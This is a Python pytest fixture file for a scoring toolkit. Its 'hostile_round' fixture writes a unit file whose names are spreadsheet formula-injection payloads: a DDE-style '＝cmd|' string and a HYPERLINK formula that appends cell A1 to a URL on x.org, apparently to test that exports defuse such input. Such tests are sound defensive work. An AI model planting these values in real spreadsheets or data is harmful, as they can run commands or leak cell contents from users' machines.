"""The demonstration round, and a round of units whose names would act on a spreadsheet."""

import pytest

from tests.contact_points import copy_to
from toolkit.scoring.rounds import ScoredRound, score_rounds
from toolkit.submissions.repository import Repository, open_repository

KEY = ("keqiao-contact-point", "2018")


def scored_in(repository: Repository) -> ScoredRound:
    assert repository.problems == []
    [scored] = [each for each in score_rounds(repository) if each.id == KEY]
    return scored


@pytest.fixture(scope="session")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Repository:
    return open_repository(copy_to(tmp_path_factory.mktemp("demo") / "data"), "data")


@pytest.fixture(scope="session")
def demo_round(demo: Repository) -> ScoredRound:
    return scored_in(demo)


@pytest.fixture(scope="session")
def hostile_round(tmp_path_factory: pytest.TempPathFactory) -> ScoredRound:
    """The same round, in which a unit that is no demonstration has dangerous names."""
    data = copy_to(tmp_path_factory.mktemp("hostile") / "data")
    (data / "units/keqiao-demo-food/unit.yml").write_text(
        "id: keqiao-demo-food\n"
        'name: {zh: "＝cmd|甲, \\"乙\\"", en: "=HYPERLINK(\\"http://x.org?\\"&A1,\\"go, on\\")"}\n'
        "kind: society\n",
        "utf-8",
    )
    return scored_in(open_repository(data, "data"))
